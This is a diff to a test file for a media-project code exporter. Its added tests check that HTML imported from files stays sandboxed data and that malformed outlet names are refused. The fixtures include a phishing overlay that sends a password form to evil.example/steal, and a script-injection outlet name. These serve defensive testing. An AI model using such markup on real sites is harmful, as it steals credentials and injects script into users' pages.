@@ -1,3 +1,4 @@
+import { parse } from "@popcorn-kit/core/parsers";
 import { describe, expect, test } from "vitest";
 import { PLUGIN_COMPONENTS } from "../../src/export/code/components.js";
 import { exportReact } from "../../src/export/react.js";
@@ -63,6 +64,69 @@ describe.each(exports)("the $name export", ({ write, read, onTimeUpdate }) => {
     });
     const seen = texts(read(write(project).code));
     for (const text of hostile) expect(seen.filter((t) => t === text)).toHaveLength(2);
+  });
+
+  test("html imported from a file is the media's data track, shown by <TrackEventViews> with the strict profile, never a component", () => {
+    const phishing =
+      '<div style="position:fixed;inset:0">Session expired<form action="https://evil.example/steal"><input type="password"></form></div>';
+    const file = "file" as const;
+    const notes = { target: "notes" };
+    const project = createProject({
+      id: "p-files",
+      media: { source: { kind: "url", url: "a.webm" } },
+      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 100 } }] },
+      lanes: [
+        {
+          id: "a",
+          events: [
+            { id: "t1", type: "text", start: 1, end: 4, options: { text: "", html: phishing, ...notes }, origin: file },
+          ],
+        },
+        {
+          id: "b",
+          events: [
+            {
+              id: "f1",
+              type: "footnote",
+              start: 2,
+              end: 5,
+              options: { text: "From the file", ...notes },
+              origin: file,
+            },
+            { id: "f2", type: "footnote", start: 6, end: 8, options: { text: "Mine", ...notes } },
+          ],
+        },
+        {
+          id: "c",
+          events: [{ id: "s1", type: "subtitle", start: 1, end: 2, options: { text: "A file's line" }, origin: file }],
+        },
+      ],
+    });
+    const { code, skipped } = write(project);
+    expect(skipped).toEqual([]);
+    const written = read(code);
+    // A file's text without html, the page's own events and every subtitle stay components; a file's html does not.
+    expect(written.filter((item) => item.component === "Footnote").map((item) => item.props.text)).toEqual([
+      "From the file",
+      "Mine",
+    ]);
+    expect(written.some((item) => item.component === "Text")).toBe(false);
+    expect(written.find((item) => item.component === "Cue")?.text).toBe("A file's line");
+    expect(written.find((item) => item.component === "TrackEventViews")?.props.views).toEqual({ text: "textMarkup" });
+    expect(code).toContain('import { text as textPlugin, textMarkup } from "@popcorn-kit/core/plugins/text";');
+    expect(code).not.toContain("@popcorn-kit/core/plugins/footnote");
+    // The data track holds the file's event as written: the instance reads it as a file's.
+    const literal = /tracks=\{(\[.*?\])\} plugins=|:tracks='(\[.*?\])' :plugins=/.exec(code);
+    const tracks = new Function(`return (${literal![1] ?? literal![2]});`)() as {
+      src: { text: string };
+      format: string;
+    }[];
+    expect(tracks.map((track) => track.format)).toEqual(["popcorn-json"]);
+    const events = parse(tracks[0]!.src.text, { format: "popcorn-json" }).events;
+    expect(events.map((event) => [event.type, event.start, event.end, event.options.html])).toEqual([
+      ["text", 1, 4, phishing],
+    ]);
+    expect(code).toMatch(/plugins=\{\[textPlugin\]\}|:plugins="\[textPlugin\]"/);
   });
 
   test("an unknown plugin type is left out with a comment, and listed", () => {
@@ -158,12 +222,13 @@ describe.each(exports)("the $name export", ({ write, read, onTimeUpdate }) => {
   });
 
   test("an outlet name that is not a name is refused", () => {
-    const project = createProject({
-      id: "p-bad",
+    // createProject refuses it too: a project made by hand (or by an older version) reaches the export as it is.
+    const project = {
+      ...createProject({ id: "p-bad" }),
       layout: {
-        outlets: [{ name: 'x"><script>', placement: "over", box: { left: 0, top: 0, width: 10, height: 10 } }],
+        outlets: [{ name: 'x"><script>', placement: "over" as const, box: { left: 0, top: 0, width: 10, height: 10 } }],
       },
-    });
+    };
     expect(() => write(project)).toThrow(/Outlet layout.outlets\[0\].name/);
   });
 });
